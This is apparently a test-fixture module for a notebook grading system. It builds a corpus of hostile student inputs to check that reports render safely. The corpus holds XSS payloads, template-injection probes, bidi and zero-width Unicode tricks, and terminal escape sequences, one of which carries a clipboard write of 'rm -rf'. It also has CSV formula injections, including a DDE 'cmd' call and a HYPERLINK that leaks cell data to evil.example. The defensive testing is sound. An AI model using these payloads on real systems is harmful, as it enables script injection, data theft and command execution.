"""What a hostile student might hand in: strings, reports full of them, a notebook, and the pages made of these."""

from __future__ import annotations

import json
from pathlib import Path

from support.cells import judge_of

from grader.core.course import Exercise
from grader.core.report import CellResult, GradeStatus, QuestionResult, Report, Status, TestResult
from grader.engine.submission import Submission
from grader.sandbox.forkserver import ForkServer
from grader.suite.session import SuiteSession

PWN = "window.pwned=1;console.log('pwned');alert('pwned')"
AWAY = "https://evil.example/x"
MARKUP = [
    f"<script>{PWN}</script>",
    f"<ScRiPt >{PWN}</sCrIpT >",
    f'"><script>{PWN}</script>',
    f"'><script src={AWAY}></script>",
    f"</title><script>{PWN}</script>",
    f"</style><script>{PWN}</script>",
    f"</script><script>{PWN}</script>",
    f"</pre></code></bdi></textarea><script>{PWN}</script>",
    f"--><!-- --!><script>{PWN}</script>",
    f"]]><![CDATA[<script>{PWN}</script>",
    f"<img src=x onerror=\"{PWN}\">",
    f"<img src={AWAY}.png>",
    f"<body onload=\"{PWN}\">",
    f"<svg onload=\"{PWN}\"><script>{PWN}</script></svg>",
    f"<svg><animate onbegin=\"{PWN}\" attributeName=x dur=1s></svg>",
    f"<svg><style><img src=x onerror=\"{PWN}\"></style></svg>",
    f"<math><mtext></form><form><mglyph><style></math><img src=x onerror=\"{PWN}\">",
    f"<details open ontoggle=\"{PWN}\">",
    f"<input autofocus onfocus=\"{PWN}\">",
    f"<a href=\"javascript:{PWN}\" id=location>click</a>",
    f"[click](javascript:{PWN})",
    f"<iframe srcdoc=\"<script>parent.pwned=1;{PWN}</script>\"></iframe>",
    f"<iframe src=\"javascript:{PWN}\"></iframe>",
    f"<object data=\"data:text/html,<script>{PWN}</script>\"></object>",
    f"<meta http-equiv=refresh content=\"0;url={AWAY}\">",
    f"<base href={AWAY}/>",
    f"<link rel=stylesheet href={AWAY}.css>",
    f"<form action={AWAY}><button autofocus>go</button></form>",
    f"<style>*{{background:url({AWAY})}} main{{display:none}}</style>",
    f"\" style=\"position:fixed;inset:0;background:url({AWAY})",
    f"\" onmouseover=\"{PWN}\" autofocus tabindex=1 onfocus=\"{PWN}\" x=\"",
    f"red;}} body{{background:url({AWAY})}}",
    f"&lt;script&gt;{PWN}&lt;/script&gt; &#60;script&#62;",
    f"\uff1cscript\uff1e{PWN}\uff1c/script\uff1e",
    f"+ADw-script+AD4-{PWN}+ADw-/script+AD4-",
    f"<scr\0ipt>{PWN}</scr\0ipt>",
    f"<\x0bscript\x0c>{PWN}</script>",
    "{{7*7}}{% for x in y %}{{ config }}{# #}${7*7}#{7*7}<%= 7*7 %>",
    "{{ ''.__class__.__mro__ }} %s %(x)s {0} {student}",
]  # fmt: skip
UNICODE = [
    "ada\u202egnp.exe",
    "\u2066ada\u2069\u200fbob",
    "ada\u200b\u2060\ufeff\u00ad\u034f\u180e",
    "\u3164\u115f\u2800\uffa0",
    "a" + "\u0301\u0489" * 400,
    "ada\udcff\ud83d",
    "ada\u2028\u2029\x85bob",
    "ada\U000e0041\U000e0001",
    "ada\ue000\uffff",
    "   ",
    "",
]
TERMINAL = [
    "\x1b[31mred\x1b[0m\x1b[2J\x1b[1A\x1b[8mhidden",
    "\x1b]0;title\x07\x1b]52;c;cm0gLXJm\x07",
    "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "\x1bP1$r0m\x1b\\\x1b_Gf=100;AAAA\x1b\\\x1b^pm\x1b\\\x1bXsos\x1b\\",
    "\x9b31mred\x9d0;title\x9c\x90dcs\x9c",
    "\x1bc\x1b(0\x1b#8\x1b[6n\x1b[?1049h\x1b=",
    "\x1b\x1b[31m[31m\x1b[\x1b[0m31m",
    "\x1b]8;;https://evil.example",
    "20 points\r 0 points\b\b\b\x7f\x07\x0e",
    "[red]x[/red] [link=https://evil.example]y[/link] [/] \\[bold] :smile:",
    "ada\nungraded: bob\r\nada,20,20\x1e\x1f",
]
FORMULAS = [
    "=1+1", "+1", "-1", "@SUM(1)", "\t=1", "\r=1", "\n=1", " =1", "\u3000=1", "\xa0=1", "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20a",
    "=HYPERLINK(\"https://evil.example?x=\"&A1,\"ada\")", "=cmd|' /C calc'!A0", "ada\n=1+1", "ada\",=1+1,\"", "ada;=1+1", "ada\t=1",
    "\";=1+1;\"", "\ufeff=1", "\0=1",
]  # fmt: skip
LONG = ["W" * 10_000, "<" * 10_000]
CORPUS = [*MARKUP, *UNICODE, *TERMINAL, *FORMULAS, *LONG]


def report(student: str, text: str, exercise: str = "01_double", question: str = "double") -> Report:
    """A judged notebook with `text` wherever a student's text, or the grader's about it, may stand."""
    words = [text or "-"] * 4
    tests = tuple(
        TestResult(f"test_{status}", Status(status), 0.0, 1.0, words[0], words[1], words[2])
        for status in ("failed", "crashed", "forbidden")
    )
    asked = (QuestionResult(question, 0.0, 3.0, Status.FORBIDDEN, tests), QuestionResult("other", 0.0, 1.0, Status.FAILED, tests[:1]))
    return Report(student, exercise, 1.5, 4.0, GradeStatus.GRADED, asked, (CellResult(1, Status.CRASHED, words[3]),), f"could not be read: {text}")


def open_report(student: str, text: str) -> Report:
    """A notebook that the grader failed on, with the student's text in what it says."""
    test = TestResult("test_x", Status.UNGRADED, 0.0, 1.0, text or "-", text or "-")
    question = QuestionResult("double", None, 1.0, Status.UNGRADED, (test,))
    return Report(student, "02_open", None, 1.0, GradeStatus.UNGRADED, (question,), problem=f"our failure: {text}")


EXERCISES = [("01_double", 4.0), ("02_open", 1.0)]


def hostile_notebook(path: Path) -> Path:
    """A notebook whose exceptions, answers, class names, markdown and stored outputs carry scripts and terminal codes."""
    script, image, steering = f"<script>{PWN}</script>", f'<img src=x onerror="{PWN}">', "\x1b]8;;http://evil.example\x07\u202e\x9b31m"
    sources = [
        f"def double(x):\n    raise ValueError({script + steering!r})",
        f"class Counter:\n    def add(self, n):\n        raise type({image!r}, (Exception,), {{}})({steering!r})",
        f"def apply(f, x):\n    return {script + image + steering!r}",
        f"raise RuntimeError({image + steering!r})",
    ]
    html = {"output_type": "display_data", "data": {"text/html": script, "image/svg+xml": f"<svg>{script}</svg>"}, "metadata": {}}
    cells = [{"cell_type": "code", "source": source, "outputs": [html], "metadata": {}, "execution_count": 1} for source in sources]
    cells.append({"cell_type": "markdown", "source": image, "metadata": {}})
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(json.dumps({"cells": cells, "metadata": {}, "nbformat": 4, "nbformat_minor": 4}), encoding="utf-8")
    return path


def judged(server: ForkServer, exercise: Exercise, suite: SuiteSession, folder: Path) -> Report:
    """The report of the hostile notebook, judged in the sandbox."""
    path = hostile_notebook(folder / "01_double.ipynb")
    return judge_of(exercise, suite, server).grade(Submission(MARKUP[0], "01_double", path))
